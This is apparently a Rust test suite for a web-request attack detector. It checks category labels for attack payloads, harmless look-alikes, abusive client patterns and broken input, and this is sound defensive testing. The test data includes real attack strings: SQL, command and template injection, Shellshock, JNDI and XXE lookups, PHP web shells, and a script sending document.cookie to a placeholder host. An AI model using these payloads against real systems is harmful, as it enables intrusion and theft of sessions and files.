//! Attacks of every category, look-alikes that are none, clients, and bodies that are broken.

use crate::{
    inference, patrols,
    score::score_rows,
    features::api::raw_http,
};
use magsentinel_bus_schema::{Fields, Level};
use serde_json::{Value, json};

fn fields(value: Value) -> Fields {
    Fields(value.as_object().cloned().unwrap_or_default())
}

fn score(rows: Vec<Value>) -> Vec<Value> {
    let (config, inference) = (patrols::Config::default(), inference::Config::default());
    let rows = rows.into_iter().map(fields);
    let scored = score_rows("api-watch", &config, &inference, rows).unwrap();
    scored.map(|row| row["scored"].clone()).collect()
}

fn level(scored: &Value) -> Level {
    Level::from_token(scored["level"].as_str().unwrap_or_default()).unwrap_or(Level::None)
}

fn query(text: &str) -> Value {
    json!({"method": "GET", "path": "/a", "query": format!("q={text}")})
}

#[test]
fn attacks_of_every_category_are_flagged_and_named() {
    let cases = [
        (query("%3Cscript%3Ealert(1)%3C/script%3E"), "xss"),
        (query("\"><img src=x onerror=alert`1`>"), "xss"),
        (json!({"path": "/static/../../../../etc/passwd"}), "path_traversal"),
        (query("..%252f..%252f..%252fetc%252fpasswd"), "path_traversal"),
        (query("php://filter/convert.base64-encode/resource=index"), "file_inclusion"),
        (json!({"path": "/", "body": "host=127.0.0.1%3Bcat+/etc/passwd"}), "command_injection"),
        (json!({"path": "/", "headers": {"User-Agent": "() { :;}; /bin/bash -c id"}}), "command_injection"),
        (query("http://169.254.169.254/latest/meta-data/"), "ssrf"),
        (json!({"path": "/", "body": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"}), "xxe"),
        (json!({"path": "/", "headers": {"X-Api-Version": "${${lower:j}ndi:ldap://h/a}"}}), "jndi_injection"),
        (query("{{''.__class__.__mro__[1].__subclasses__()}}"), "template_injection"),
        (query("1' UNION SELECT name,pass FROM users-- -"), "sql_injection"),
        (query("1' or '1'='1"), "sql_injection"),
        (json!({"path": "/", "query": "user[$ne]=x"}), "nosql_injection"),
        (json!({"path": "/", "body": "{\"user\": {\"$gt\": \"\"}}"}), "nosql_injection"),
        (query("*)(uid=*))(|(uid=*"), "ldap_injection"),
        (query("a%0d%0aSet-Cookie:x=1"), "crlf_injection"),
        (query("<!--#exec cmd=\"id\"-->"), "ssi_injection"),
        (json!({"path": "/", "body": "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://h/a\"}"}), "deserialization"),
        (query("O:8:\"Example\":1:{s:1:\"a\";s:2:\"id\";}"), "deserialization"),
        (json!({"path": "/", "body": "a=<?php eval($_POST['x']);?>"}), "code_injection"),
        (json!({"path": "/.git/config"}), "sensitive_file"),
        (json!({"path": "/", "headers": {"User-Agent": "sqlmap/1.7"}}), "scanner"),
    ];
    let scored = score(cases.iter().map(|(body, _)| body.clone()).collect());
    for ((body, category), scored) in cases.iter().zip(scored) {
        assert!(level(&scored).is_flagged(), "{body} {scored}");
        assert_eq!(scored["category"], *category, "{body} {scored}");
        assert!(!scored["techniques"].as_array().unwrap().is_empty());
        assert!(!scored["reasons"].as_array().unwrap().is_empty());
    }
}

#[test]
fn look_alikes_are_left_alone() {
    let texts = [
        "O'Brien & Sons", "it's 50% off -- select yours", "rock'n'roll", "a+b=c", "1 or 2 people",
        "select a table from the union", "<3 you", "C:\\Users\\ada\\notes.txt", "x > 5 and y < 7",
        "{\"a\": \"b's\", \"n\": [1, 2]}", "https://example.org/?a=1&b=2", "Dear {name},", "$100; $200",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl", "你好，世界", "l'été à Orléans",
        "name:\"Ada\" AND born:[1800 TO 1900]", "a;b;c", "cats|dogs", "../images/logo.png", "@ada #1",
        "<p>Hello <b>world</b> &amp; all</p>", "alert the manager", "script for a play", "5' 11\"",
    ];
    let bodies = texts.iter().map(|text| json!({"path": "/", "body": {"text": text}}));
    for (text, scored) in texts.iter().zip(score(bodies.collect())) {
        assert!(!level(&scored).is_flagged(), "{text} {scored}");
    }
}

#[test]
fn what_patterns_know_is_flagged_and_what_only_looks_like_it_is_not() {
    let known = json!({"authorization": "Bearer abcdefghijk"});
    let schema = json!({"query": "query IntrospectionQuery { __schema { types { name } } }"});
    let xml = |from: &str| format!("<a xmlns:xsi='x' xsi:schemaLocation=\"{from}\"><b>1</b></a>");
    let attacks = [
        (json!({"path": "/shop/list.jsp.bak"}), "sensitive_file"),
        (json!({"path": "/index.php~"}), "sensitive_file"),
        (json!({"path": "/lib/connect.inc"}), "sensitive_file"),
        (json!({"path": "/blog/wp-admin/", "status": 404}), "scan_probe"),
        (json!({"path": "/administrator", "status": 404}), "scan_probe"),
        (query("sqlmap/1.7 (https://sqlmap.example)"), "scanner"),
        (query("Nuclei - Open-source scanner"), "scanner"),
        (query("a%0d%0aRCPT TO:<eve@h.example>"), "crlf_injection"),
        (query("1;db.users.insert({a:1})"), "nosql_injection"),
        (json!({"path": "/graphql", "body": schema.clone()}), "scan_probe"),
        (json!({"path": "/", "body": xml("http://h.example/x http://h.example/x.xsd")}), "xxe"),
        (json!({"path": "/", "query": "page=../a.php%00.jpg"}), "path_traversal"),
        (json!({"path": "/", "query": "page=http://h.example/cmd.txt?"}), "file_inclusion"),
        (query("alert.call(window,1)"), "xss"),
        (query("x onmouseover=prompt(1)"), "xss"),
    ];
    let ordinary = [
        json!({"path": "/~ada/"}),
        json!({"path": "/api/files.copy", "method": "POST"}),
        json!({"path": "/scripts/wrap.backup/main.py"}),
        json!({"path": "/threshold/old"}),
        json!({"path": "/wp-login.php", "status": 200}),
        query("how hydra and burp are spelled, and the nuclei of cells"),
        json!({"path": "/", "body": {"text": "Data\r\nI quit.\r\nmail from my mother"}}),
        query("the db.users collection"),
        json!({"path": "/graphql", "body": schema, "headers": known}),
        json!({"path": "/", "body": xml("http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/a.xsd")}),
        json!({"path": "/", "query": "page=https://example.org/a%3Fb=1&file=photo.jpg"}),
        query("alert me; please confirm (twice) by mail"),
        query("online = yes"),
    ];
    let rows = attacks.iter().map(|(body, _)| body).chain(&ordinary).cloned().collect();
    let scored = score(rows);
    let (found, left) = scored.split_at(attacks.len());
    for ((body, category), scored) in attacks.iter().zip(found) {
        assert!(level(scored).is_flagged(), "{body} {scored}");
        assert_eq!(scored["category"], *category, "{body} {scored}");
    }
    for (body, scored) in ordinary.iter().zip(left) {
        assert!(!level(scored).is_flagged(), "{body} {scored}");
    }
}

#[test]
fn padding_does_not_hide_an_attack() {
    let filler = "An ordinary sentence, with (brackets); and marks. ".repeat(200);
    let text = format!("{filler}<script>fetch('//h/'+document.cookie)</script>{filler}");
    let scored = score(vec![json!({"path": "/", "body": {"text": text}})]).remove(0);
    assert!(level(&scored) >= Level::High, "{scored}");
    let huge = score(vec![json!({"path": "/", "body": "x' ".repeat(3_500_000)})]).remove(0);
    assert!(huge.get("error").is_none());
}

#[test]
fn a_client_that_misbehaves_is_told_with_its_counter() {
    let call = |n: i64, path: String, status: u64| json!({"ts": 1_767_605_432 + n, "client": "192.0.2.7",
        "method": "GET", "path": path, "status": status});
    let scan = score((0..20).map(|n| call(n, format!("/nothing/{n}/x{n}y"), 404)).collect());
    let last = scan.last().unwrap();
    assert!(level(last).is_flagged() && last["category"] == "scan", "{last}");
    assert!(last["reasons"][0].as_str().unwrap().contains("paths that are not there"), "{last}");
    let stuffing = (0..20).map(|n| json!({"ts": 1_767_605_432 + n * 2, "client": "192.0.2.8",
        "method": "POST", "path": "/api/login", "status": 401,
        "body": format!("username=u{n}&password=x")}));
    let stuffing = score(stuffing.collect());
    assert_eq!(stuffing.last().unwrap()["category"], "credential_stuffing");
    let numbers = score((0..20).map(|n| call(n * 4, format!("/api/users/{n}"), 200)).collect());
    assert_eq!(numbers.last().unwrap()["category"], "id_enumeration");
    let taken = score((0..20).map(|n| call(n, format!("/api/users/x{}", n * 7919 % 1000), 200)).collect());
    assert_eq!(taken.last().unwrap()["category"], "scraping", "{taken:?}");
    let tried = ["/wp/wp-login.php", "/typo3/", "/bitrix/admin"].into_iter().zip(0..);
    let tried = score(tried.map(|(path, n)| call(n, path.to_owned(), 403)).collect());
    assert!(level(tried.last().unwrap()).is_flagged(), "{tried:?}");
    let reader = score((0..20).map(|n| call(n * 9, format!("/news/x{}", n * 7919 % 1000), 200)).collect());
    assert!(reader.iter().all(|row| !level(row).is_flagged()), "{reader:?}");
    let office = score((0..60).map(|n| call(n * 3, format!("/page-{}", n % 7), 200)).collect());
    assert!(office.iter().all(|row| !level(row).is_flagged()));
}

#[test]
fn broken_bodies_are_told_and_others_go_on() {
    let rows = score(vec![
        json!({"status": 200}), json!({"path": 7}), json!({"path": "/", "status": "many"}),
        json!({"path": "/", "status": -1, "body_size": 1e300, "ts": 1_767_605_432, "client": "c"}),
        json!({"path": "/", "ts": 5, "client": "c", "headers": [1, 2], "body": [null, true]}),
        json!({"path": "/", "ts": "never"}), json!({"path": "/%", "query": "%%%=&&=%zz", "headers": {"a": null}}),
    ]);
    let wrong: Vec<bool> = rows.iter().map(|row| row.get("error").is_some()).collect();
    assert_eq!(wrong, [true, true, false, false, false, true, false]);
}

#[test]
fn a_raw_request_is_scored_like_its_body() {
    let raw = "POST /upload?x=1 HTTP/1.1\r\nHost: h\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n\
        --b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET['c']);?>\r\n--b--\r\n";
    let scored = score(vec![Value::Object(raw_http(raw).0)]).remove(0);
    assert!(level(&scored) >= Level::High, "{scored}");
}

#[test]
fn the_account_of_a_login_is_found_wherever_it_stands() {
    let long = format!("{}é&user=ann", "x".repeat(2047));
    for (body, account) in [
        ("login_attempt=1&login=ann", "ann"),
        ("{\"email_opt_in\": true, \"email\": \"ann@example.org\"}", "ann@example.org"),
        (&*format!("user=ann&{}é", "x".repeat(2038)), "ann"),
        (&*long, ""),
        ("nothing", ""),
    ] {
        let body = fields(json!({ "body": body }));
        assert_eq!(super::account(&body), account);
    }
}

#[test]
fn one_network_is_one_client() {
    let key = |client: &str| super::key_of(&fields(json!({"client": client, "host": "h"})));
    assert_eq!(key("2001:db8::1"), key("2001:db8::ffff:1"));
    assert_ne!(key("2001:db8::1"), key("2001:db8:0:1::1"));
    assert_eq!((key("192.0.2.1"), key("-")), ("client:192.0.2.1".to_owned(), String::new()));
}
